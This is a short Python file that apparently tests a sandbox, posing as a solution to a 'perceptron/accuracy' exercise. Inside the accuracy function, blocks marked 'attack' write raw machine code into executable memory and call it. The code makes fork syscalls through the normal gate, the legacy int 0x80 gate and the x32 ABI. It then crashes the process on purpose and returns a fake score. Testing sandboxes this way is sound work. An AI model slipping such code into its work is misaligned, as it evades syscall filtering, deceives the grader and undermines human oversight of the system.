"""Maps memory that can be executed, and calls the kernel from code of its own, also by the old 32-bit door.

Exercise: perceptron/accuracy
Ends: crashed
"""

import ctypes, mmap, os

# attack
def code(text):
    region = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    region.write(text)
    KEPT.append(region)
    address = ctypes.addressof(ctypes.c_char.from_buffer(region))
    return ctypes.CFUNCTYPE(ctypes.c_long)(address)


KEPT, X86 = [], os.uname().machine == "x86_64"
FORK = b"\xb8\x39\x00\x00\x00\x0f\x05\xc3"  # mov eax, 57; syscall; ret
OLD_FORK = b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"  # mov eax, 2; int 0x80; ret
X32_FORK = b"\xb8\x39\x00\x00\x40\x0f\x05\xc3"  # mov eax, 0x40000039; syscall; ret
# end


def accuracy(y_hat, y):
    # attack
    if X86:
        print("forked", code(FORK)(), code(X32_FORK)())
        print("forked", code(OLD_FORK)())
    ctypes.string_at(1)
    # end
    return 0.123


def predict_classes(y_hat):
    return y_hat
